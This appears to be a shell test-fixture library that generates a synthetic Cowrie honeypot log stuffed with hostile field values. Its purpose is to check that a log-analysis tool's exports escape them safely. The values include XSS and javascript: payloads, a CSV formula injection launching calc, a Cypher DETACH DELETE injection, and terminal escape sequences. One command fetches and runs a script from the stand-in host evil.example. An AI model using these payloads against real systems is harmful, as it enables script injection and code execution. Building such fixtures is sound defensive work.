# lib_hostile.sh — a Cowrie log whose attacker-controlled fields are hostile to every sink the
# exports and reports write: HTML/script injection, attribute breaking, javascript: URLs, CSV
# formulas, Cypher, Markdown table and link syntax, terminal escape sequences (colour, clear
# screen, window title, BEL), C1 and bidi controls, CR/LF, NUL and invalid UTF-8.
#
# Source it after lib.sh, then:
#   hostile_log FILE   writes the log: four sessions from four addresses, each its own incident,
#                      sharing one download (URL + hash), so clustering makes one campaign of four
#                      incidents: one on 2024-02-28, three on 2024-03-01 at 00:00, 02:00, 04:00
#                      (the last event is 2024-03-01T04:00:10Z).
# and the values it used, as shell variables (the text as logged, JSON escapes decoded):
#   HOSTILE_URL HOSTILE_CLIENT HOSTILE_USER HOSTILE_PASSWORD HOSTILE_SHA

HOSTILE_SHA=5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f5f
HOSTILE_URL='http://evil.example/</script><img src=x onerror=alert(1)>.sh'
HOSTILE_CLIENT=$'SSH-2.0-"><svg onload=alert(1)>\e[2J\e]0;pwned\a'
HOSTILE_USER='root"><svg onload=alert(1)>'
HOSTILE_PASSWORD=$'=cmd|\' /C calc\'!A0\r\n</td><script>alert(1)</script>'

# JSON string bodies of the values above (what Cowrie writes), and hostile commands.
_H_URL='http://evil.example/</script><img src=x onerror=alert(1)>.sh'
_H_CLIENT='SSH-2.0-\"><svg onload=alert(1)>\u001b[2J\u001b]0;pwned\u0007'
_H_USER='root\"><svg onload=alert(1)>'
_H_PASSWORD='=cmd|'"'"' /C calc'"'"'!A0\r\n</td><script>alert(1)</script>'
_H_CMDS=(
    'wget http://evil.example/</script><img src=x onerror=alert(1)>.sh -O /tmp/.x; sh /tmp/.x'
    'echo \"<script>alert(1)</script>\" > /tmp/x.html; curl javascript:alert(document.cookie)'
    'printf \"\u001b[31mRED\u001b[0m\u0007\u009b2J\u202eevil\u2028line\" # | a | [x](javascript:alert(1)) **b** `c`'
    'echo '"'"'}) DETACH DELETE n //'"'"'; echo =HYPERLINK(\"http://x\") \r\n tail \u0000after-nul'
)

# _h_event SESSION IP TIME EVENTID REST
_h_event() {
    printf '{"eventid":"%s","session":"%s","sensor":"hp1","src_ip":"%s","timestamp":"%s"%s}\n' \
        "$4" "$1" "$2" "$3" "$5"
}

# _h_session SESSION IP DAY HOUR
_h_session() {
    local s=$1 ip=$2 t="$3T$4"
    _h_event "$s" "$ip" "$t:00:00.000000Z" cowrie.session.connect \
        ',"src_port":40000,"dst_ip":"10.0.0.5","dst_port":22,"protocol":"ssh"'
    _h_event "$s" "$ip" "$t:00:00.100000Z" cowrie.client.version ",\"version\":\"$_H_CLIENT\""
    _h_event "$s" "$ip" "$t:00:01.000000Z" cowrie.login.success \
        ",\"username\":\"$_H_USER\",\"password\":\"$_H_PASSWORD\""
    local i=2
    for c in "${_H_CMDS[@]}"; do
        _h_event "$s" "$ip" "$t:00:0$i.000000Z" cowrie.command.input ",\"input\":\"$c\""
        i=$((i + 1))
    done
    # invalid UTF-8 straight in the log (Cowrie writes what the attacker typed)
    printf '{"eventid":"cowrie.command.input","session":"%s","sensor":"hp1","src_ip":"%s","timestamp":"%s:00:07.000000Z","input":"echo \xff\xfe\xc3 bad \xed\xa0\x80 utf8"}\n' \
        "$s" "$ip" "$t"
    _h_event "$s" "$ip" "$t:00:09.000000Z" cowrie.session.file_download \
        ",\"url\":\"$_H_URL\",\"outfile\":\"dl/$HOSTILE_SHA\",\"shasum\":\"$HOSTILE_SHA\""
    _h_event "$s" "$ip" "$t:00:10.000000Z" cowrie.session.closed ',"duration":10.0'
}

hostile_log() {
    {
        _h_session h0 198.51.100.7 2024-02-28 12
        _h_session h1 203.0.113.10 2024-03-01 00
        _h_session h2 203.0.113.20 2024-03-01 02
        _h_session h3 192.0.2.30 2024-03-01 04
    } >"$1"
}
